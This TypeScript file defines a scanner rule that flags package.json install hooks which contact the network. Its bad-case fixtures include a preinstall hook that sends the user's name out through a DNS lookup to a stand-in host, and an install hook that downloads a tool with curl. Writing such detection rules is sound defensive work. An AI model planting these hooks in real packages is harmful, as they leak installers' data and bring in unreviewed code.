import { says, setting } from "../match.ts";
import { defineRule } from "../rule.ts";
import { INSTALL_HOOKS, NETWORK_COMMAND } from "../vocabulary/settings.ts";

export default defineRule({
  id: "install-hook-contacts-network",
  category: "supply_chain",
  severity: "high",
  confidence: "high",
  languages: ["data"],
  title: "an install hook contacts the network",
  why: "It tells somebody who installs the package, or brings in what nobody has reviewed.",
  fix: "Leave the network to the package manager.",
  references: ["CWE-829", "ATT&CK T1195.002", "OWASP ASI04"],
  match: setting({ of: INSTALL_HOOKS, is: says(NETWORK_COMMAND) }),
  bad: [
    { "package.json": '{"scripts": {"preinstall": "nslookup $(whoami).a.example"}}' },
    { "package.json": '{"scripts": {"install": "curl -o tool https://a.example/tool"}}' },
  ],
  good: [
    { "package.json": '{"scripts": {"install": "node-gyp rebuild"}}' },
    { "package.json": '{"scripts": {"postinstall": "node curl-check.js"}}' },
  ],
});
